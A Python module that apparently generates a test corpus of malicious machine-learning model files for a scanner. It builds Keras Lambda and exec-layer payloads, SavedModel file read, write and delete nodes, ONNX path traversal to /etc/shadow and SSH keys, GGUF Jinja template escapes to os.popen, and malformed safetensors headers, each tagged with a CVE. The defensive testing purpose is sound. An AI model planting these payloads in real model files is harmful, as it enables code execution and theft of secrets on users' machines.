"""Malicious non-pickle formats: Keras, SavedModel, ONNX, GGUF, safetensors."""

from __future__ import annotations

import base64
import json
import marshal
import struct
from typing import Any

import _pb
import _zipw
from _corpus import CMD, Corpus
from _mal_pickles import PY

# ---------------------------------------------------------------- Keras


def _lambda_code() -> str:
    fn = compile("lambda x: (__import__('os').system(" + repr(CMD) + "), x)[1]", "<l>", "eval")
    code = next(c for c in fn.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(code)).decode()


def _k3_layer(cls: str, cfg: Any, module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": cfg, "registered_name": None}


def _k3_model(extra: list[dict[str, Any]]) -> dict[str, Any]:
    layers = [_k3_layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32",
                                       "sparse": False, "name": "input_layer"})]
    layers += extra
    layers.append(_k3_layer("Dense", {"name": "dense", "units": 2, "activation": "linear",
                                      "use_bias": True, "trainable": True, "dtype": "float32"}))
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "trainable": True, "dtype": "float32",
                       "layers": layers},
            "build_config": {"input_shape": [None, 4]},
            "compile_config": None}


def _keras_zip(cfg: dict[str, Any]) -> bytes:
    meta = {"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}
    return _zipw.build([_zipw.Member("metadata.json", json.dumps(meta).encode()),
                        _zipw.Member("config.json", json.dumps(cfg).encode()),
                        _zipw.Member("model.weights.h5", b"")])


def _keras(c: Corpus, have_h5py: bool) -> None:
    k = "keras"
    lam = _k3_layer("Lambda", {"name": "lambda", "trainable": True, "dtype": "float32",
                               "function": {"class_name": "__lambda__",
                                            "config": {"code": _lambda_code(), "defaults": None,
                                                       "closure": None}},
                               "arguments": {}, "output_shape": None})
    c.mal("malicious/keras/keras-lambda/model.keras", _keras_zip(_k3_model([lam])),
          "keras-lambda", k, ".keras zip whose Lambda layer holds a marshalled, base64 function",
          "CVE-2024-3660")
    odd = _k3_layer("Popen", {"args": ["/bin/sh", "-c", CMD]}, module="subprocess")
    c.mal("malicious/keras/keras-odd-module/model.keras", _keras_zip(_k3_model([odd])),
          "keras-odd-module", k, "layer object whose module is 'subprocess' (class Popen)",
          "CVE-2025-1550")
    fref = {"module": "builtins", "class_name": "function", "config": "exec",
            "registered_name": "exec"}
    dense = _k3_layer("Dense", {"name": "d0", "units": 4, "activation": fref, "dtype": "float32"})
    c.mal("malicious/keras/keras-function-ref/model.keras", _keras_zip(_k3_model([dense])),
          "keras-function-ref", k, "activation given as a function reference to builtins.exec",
          "CVE-2025-1550")
    unsafe = _k3_layer("function", "enable_unsafe_deserialization", module="keras.config")
    c.mal("malicious/keras/keras-unsafe-toggle/model.keras",
          _keras_zip(_k3_model([unsafe, lam])), "keras-unsafe-toggle", k,
          "config calls keras.config.enable_unsafe_deserialization before a Lambda layer",
          "CVE-2025-9906")
    getf = _k3_layer("function", "get_file", module="keras.utils")
    getf["config"] = {"fname": "/root/.bashrc", "origin": "http://127.0.0.1:9/x", "cache_dir": "/"}
    c.mal("malicious/keras/keras-get-file/model.keras", _keras_zip(_k3_model([getf])),
          "keras-get-file", k, "config reaches keras.utils.get_file to fetch and overwrite a file",
          "CVE-2025-8747")
    td = _k3_layer("TimeDistributed", {"name": "td", "trainable": True, "layer": lam})
    c.mal("malicious/keras/keras-nested-lambda/model.keras", _keras_zip(_k3_model([td])),
          "keras-nested-lambda", k, "Lambda layer nested inside a TimeDistributed wrapper's "
          "config (only the wrapper is at the top level)")
    if have_h5py:
        _keras_h5(c)


def _keras_h5(c: Corpus) -> None:
    import h5py  # type: ignore[import-untyped]
    import numpy as np

    code = _lambda_code()
    cfg = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4],
                                                "dtype": "float32", "name": "input_1"}},
        {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True,
                                            "dtype": "float32", "function": [code, None, None],
                                            "function_type": "lambda", "module": "__main__",
                                            "output_shape": None, "arguments": {}}},
        {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "linear"}},
    ]}}
    p = c.path("malicious/keras/keras-h5-lambda/model.h5")
    with h5py.File(p, "w", track_order=True) as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(cfg)
        g = f.create_group("model_weights").create_group("dense").create_group("dense")
        g.create_dataset("kernel:0", data=np.zeros((4, 2), "f4"))
    c.mal("malicious/keras/keras-h5-lambda/model.h5", None, "keras-h5-lambda", "keras",
          "legacy HDF5 Keras model whose model_config attribute has a Lambda layer",
          "CVE-2024-3660")


# ---------------------------------------------------------------- SavedModel


def _sm_dir(c: Corpus, tech: str, pb: bytes, desc: str, src: str = "") -> None:
    rel = f"malicious/savedmodel/{tech}/saved_model"
    c.path(f"{rel}/saved_model.pb").write_bytes(pb)
    c.path(f"{rel}/variables/variables.index").write_bytes(b"")
    c.mal(rel, None, tech, "savedmodel", desc, src)


def _savedmodel(c: Corpus) -> None:
    n = _pb.node
    s = _pb.attr_s
    const_str = {"dtype": _pb.attr_type(_pb.DT_STRING)}
    fname = n("filename", "Const", attrs=const_str)
    contents = n("contents", "Const", attrs=const_str)
    _sm_dir(c, "tf-writefile", _pb.saved_model([fname, contents, n("w", "WriteFile",
                                                                    ["filename", "contents"])]),
            "top-level graph node WriteFile (writes an attacker-chosen file)")
    _sm_dir(c, "tf-readfile", _pb.saved_model([fname, n("r", "ReadFile", ["filename"])]),
            "top-level graph node ReadFile (exfiltrates a local file into outputs)")
    pyf = n("p", "PyFunc", ["filename"], {"token": s("pyfunc_0"),
                                          "Tin": _pb.attr_list_types([_pb.DT_STRING]),
                                          "Tout": _pb.attr_list_types([_pb.DT_STRING])})
    _sm_dir(c, "tf-pyfunc", _pb.saved_model([fname, pyf]),
            "graph node PyFunc (calls back into Python)")
    # WriteFile two calls deep in the function library: graph -> outer_fn -> inner_fn
    inner = _pb.function("__inference_inner_7", [
        n("w", "WriteFile", ["path", "data"])], [("path", _pb.DT_STRING), ("data", _pb.DT_STRING)])
    outer = _pb.function("__inference_outer_5", [
        n("call", "StatefulPartitionedCall", ["path", "data"],
          {"f": _pb.attr_func("__inference_inner_7"),
           "Tin": _pb.attr_list_types([_pb.DT_STRING, _pb.DT_STRING]),
           "Tout": _pb.attr_list_types([])})],
        [("path", _pb.DT_STRING), ("data", _pb.DT_STRING)])
    top = n("call", "StatefulPartitionedCall", ["filename", "contents"],
            {"f": _pb.attr_func("__inference_outer_5"),
             "Tin": _pb.attr_list_types([_pb.DT_STRING, _pb.DT_STRING]),
             "Tout": _pb.attr_list_types([])})
    _sm_dir(c, "tf-nested-function-writefile",
            _pb.saved_model([fname, contents, top], [outer, inner]),
            "WriteFile hidden in a function-library graph called from another function")
    shell = _pb.function("__inference_serve_3", [n("py", "EagerPyFunc", ["x"], {
        "token": s("pyfunc_1"), "Tin": _pb.attr_list_types([_pb.DT_FLOAT]),
        "Tout": _pb.attr_list_types([_pb.DT_FLOAT])})], [("x", _pb.DT_FLOAT)])
    _sm_dir(c, "tf-function-pyfunc", _pb.saved_model([n("x", "Placeholder", attrs={
        "dtype": _pb.attr_type(_pb.DT_FLOAT)})], [shell]),
            "EagerPyFunc inside a library function")
    pbtxt = (
        'saved_model_schema_version: 1\nmeta_graphs {\n  meta_info_def { tags: "serve" }\n'
        '  graph_def {\n'
        '    node { name: "f" op: "Const" attr { key: "dtype" value { type: DT_STRING } } }\n'
        '    node { name: "d" op: "Const" attr { key: "dtype" value { type: DT_STRING } } }\n'
        '    node { name: "w" op: "WriteFile" input: "f" input: "d" }\n  }\n}\n')
    rel = "malicious/savedmodel/tf-pbtxt/saved_model"
    c.path(f"{rel}/saved_model.pbtxt").write_text(pbtxt)
    c.path(f"{rel}/variables/variables.index").write_bytes(b"")
    c.mal(rel, None, "tf-pbtxt", "savedmodel", "SavedModel in text format (saved_model.pbtxt, "
          "which TensorFlow loads when no .pb exists) with a WriteFile node")
    fs = [n("mf", "MatchingFiles", ["filename"]), n("del", "DeleteFile", ["filename"])]
    _sm_dir(c, "tf-file-ops", _pb.saved_model([fname, *fs]),
            "MatchingFiles + DeleteFile graph ops (filesystem probing and deletion)")


# ---------------------------------------------------------------- ONNX


def _onnx(c: Corpus) -> bool:
    try:
        import onnx  # type: ignore[import-untyped]
        from onnx import TensorProto, helper
    except ImportError:
        return False

    def ext_init(name: str, location: str) -> Any:
        t = TensorProto()
        t.name, t.data_type = name, TensorProto.FLOAT
        t.dims.extend([4])
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "16")):
            e = t.external_data.add()
            e.key, e.value = k, v
        return t

    def model(nodes: list[Any], inits: list[Any], opsets: list[tuple[str, int]]) -> bytes:
        x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
        y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
        g = helper.make_graph(nodes, "g", [x], [y], inits)
        m = helper.make_model(g, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets])
        m.ir_version = 9
        return bytes(m.SerializeToString())

    add = helper.make_node("Add", ["x", "w"], ["y"])
    for tech, loc, desc in (("onnx-external-traversal", "../../../../etc/passwd",
                             "initializer external_data location ../../../../etc/passwd"),
                            ("onnx-external-absolute", "/etc/shadow",
                             "initializer external_data at absolute path /etc/shadow")):
        c.mal(f"malicious/onnx/{tech}/model.onnx",
              model([add], [ext_init("w", loc)], [("", 17)]), tech, "onnx", desc,
              "CVE-2024-27318/CVE-2024-5187 class")
    custom = helper.make_node("Exec", ["x"], ["y"], domain="com.evil.ops", cmd=CMD)
    c.mal("malicious/onnx/onnx-unknown-domain/model.onnx",
          model([custom], [], [("", 17), ("com.evil.ops", 1)]), "onnx-unknown-domain", "onnx",
          "node from the unknown operator domain com.evil.ops (needs a custom-op library)")
    then_g = helper.make_graph([helper.make_node("Identity", ["w2"], ["t"])], "then", [],
                               [helper.make_tensor_value_info("t", TensorProto.FLOAT, [4])],
                               [ext_init("w2", "../../../../root/.ssh/id_rsa")])
    else_g = helper.make_graph([helper.make_node("Identity", ["x"], ["e"])], "else", [],
                               [helper.make_tensor_value_info("e", TensorProto.FLOAT, [4])])
    cond = helper.make_tensor("cond", TensorProto.BOOL, [], [True])
    iff = helper.make_node("If", ["cond"], ["y"], then_branch=then_g, else_branch=else_g)
    c.mal("malicious/onnx/onnx-subgraph-external/model.onnx",
          model([iff], [cond], [("", 17)]), "onnx-subgraph-external", "onnx",
          "external_data escaping the folder, hidden in an If node's then_branch subgraph")
    _ = onnx
    return True


# ---------------------------------------------------------------- GGUF


def _gs(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(kv: dict[str, Any], align: int = 32) -> bytes:
    """A GGUF v3 file with metadata ``kv`` and one 4x4 F32 tensor, written per the spec."""
    out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, 1, len(kv)))
    for k, v in kv.items():
        out += _gs(k)
        if isinstance(v, str):
            out += struct.pack("<I", 8) + _gs(v)
        elif isinstance(v, bool):
            out += struct.pack("<I?", 7, v)
        elif isinstance(v, int):
            out += struct.pack("<II", 4, v)
        elif isinstance(v, list):
            out += struct.pack("<IIQ", 9, 8, len(v)) + b"".join(_gs(x) for x in v)
        else:
            raise TypeError(type(v))
    out += _gs("token_embd.weight") + struct.pack("<IQQIQ", 2, 4, 4, 0, 0)
    out += b"\0" * ((align - len(out) % align) % align)
    out += struct.pack("<16f", *([0.25] * 16))
    return bytes(out)


def gguf_kv(template: str, key: str = "tokenizer.chat_template") -> dict[str, Any]:
    return {"general.architecture": "llama", "general.name": "tiny", "general.alignment": 32,
            "llama.context_length": 128, "tokenizer.ggml.model": "gpt2",
            "tokenizer.ggml.tokens": ["<s>", "</s>", "a", "b"], key: template}


def _gguf(c: Corpus) -> None:
    good = ("{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}"
            "{% endfor %}")
    tpls = {
        "gguf-template-mro": (
            good + "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == "
            "'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('" + CMD
            + "').read() }}{% endif %}{% endfor %}",
            "chat template walks __class__.__base__.__subclasses__() to os.popen"),
        "gguf-template-globals": (
            good + "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}",
            "chat template reaches cycler.__init__.__globals__.os"),
        "gguf-template-obfuscated": (
            good + "{% set g = cycler|attr('__in'~'it__')|attr('__glo'~'bals__') %}"
            "{{ g['o'~'s']|attr('po'~'pen') }}",
            "attr filter plus string concatenation to hide the dunder names"),
        "gguf-template-lipsum": (
            "{{ lipsum.__globals__['__builtins__']['__import__']('os').system('" + CMD + "') }}"
            + good, "chat template reaches lipsum.__globals__ builtins"),
    }
    for tech, (tpl, desc) in tpls.items():
        c.mal(f"malicious/gguf/{tech}/model.gguf", gguf(gguf_kv(tpl)), tech, "gguf", desc,
              "CVE-2024-34359 (llama-cpp-python)")
    alt = gguf_kv(good)
    alt["tokenizer.chat_template.tool_use"] = tpls["gguf-template-globals"][0]
    c.mal("malicious/gguf/gguf-template-named/model.gguf", gguf(alt), "gguf-template-named",
          "gguf", "benign default template; the payload sits in the named tool_use template")


# ---------------------------------------------------------------- safetensors


def safetensors(header: dict[str, Any], data: bytes, declared: int | None = None) -> bytes:
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h) if declared is None else declared) + h + data


def _safetensors(c: Corpus) -> None:
    data = struct.pack("<8f", *range(8))
    t = "safetensors"

    def ten(a: int, b: int, shape: list[int] | None = None) -> dict[str, Any]:
        return {"dtype": "F32", "shape": shape or [(b - a) // 4], "data_offsets": [a, b]}

    c.mal("malicious/safetensors/st-overlap/model.safetensors",
          safetensors({"a": ten(0, 24), "b": ten(8, 32)}, data), "st-overlap", t,
          "two tensors whose byte ranges overlap")
    c.mal("malicious/safetensors/st-out-of-file/model.safetensors",
          safetensors({"a": ten(0, 32), "b": ten(32, 1 << 40, [1 << 38])}, data),
          "st-out-of-file", t, "tensor data_offsets far past the end of the file")
    c.mal("malicious/safetensors/st-header-beyond-file/model.safetensors",
          safetensors({"a": ten(0, 32)}, data, declared=1 << 40), "st-header-beyond-file", t,
          "header length field (1 TiB) larger than the file")
    big = {"__metadata__": {"pad": "x" * (101 * 1000 * 1000)}, "a": ten(0, 32)}
    c.mal("malicious/safetensors/st-oversized-header/model.safetensors",
          safetensors(big, data), "st-oversized-header", t,
          "a real 101 MB JSON header (past the 100 MB limit of the reference parser)")
    c.mal("malicious/safetensors/st-shape-mismatch/model.safetensors",
          safetensors({"a": ten(0, 32, [4096, 4096])}, data), "st-shape-mismatch", t,
          "shape says 64 MiB while data_offsets cover 32 bytes")


def build(c: Corpus, have_h5py: bool) -> list[str]:
    """Write every malicious non-pickle technique; return notes on what was skipped."""
    notes = []
    _keras(c, have_h5py)
    if not have_h5py:
        notes.append("h5py not importable: keras-h5-lambda skipped")
    _savedmodel(c)
    if not _onnx(c):
        notes.append("onnx not importable: ONNX techniques skipped")
    _gguf(c)
    _safetensors(c)
    _ = PY
    return notes
